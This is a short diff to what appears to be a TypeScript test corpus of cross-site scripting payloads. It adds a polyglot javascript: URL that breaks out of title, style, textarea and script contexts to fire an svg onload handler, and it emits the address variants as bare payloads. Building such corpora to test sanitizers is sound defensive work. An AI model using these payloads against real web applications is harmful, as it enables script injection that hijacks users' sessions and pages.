@@ -97,6 +97,8 @@ const ADDRESSES = [
   `jav\u200bascript:${CALL}`,
   `javascript\u00a0:${CALL}`,
   `blob:javascript:${CALL}`,
+  // One that runs wherever it comes to stand: in a text, an attribute, a script, a style, or as an address.
+  `javascript:/*--></title></style></textarea></script><svg onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
 ]
 
 /** Where an address can stand. */
@@ -242,6 +244,7 @@ export const payloads: readonly Payload[] = [
   ...HANDLERS.flatMap((tag) => TAGS.map((write) => ({ kind: 'handler', text: write(tag) }))),
   ...SCRIPTS.map((text) => ({ kind: 'script', text })),
   ...ADDRESSES.flatMap((address) => PLACES.map((put) => ({ kind: 'address', text: put(address) }))),
+  ...ADDRESSES.map((text) => ({ kind: 'bare address', text })),
   ...CLOSERS.flatMap((closer) =>
     [IMAGE, `<svg onload=${CALL}>`].map((rest) => ({ kind: 'closer', text: closer + rest })),
   ),
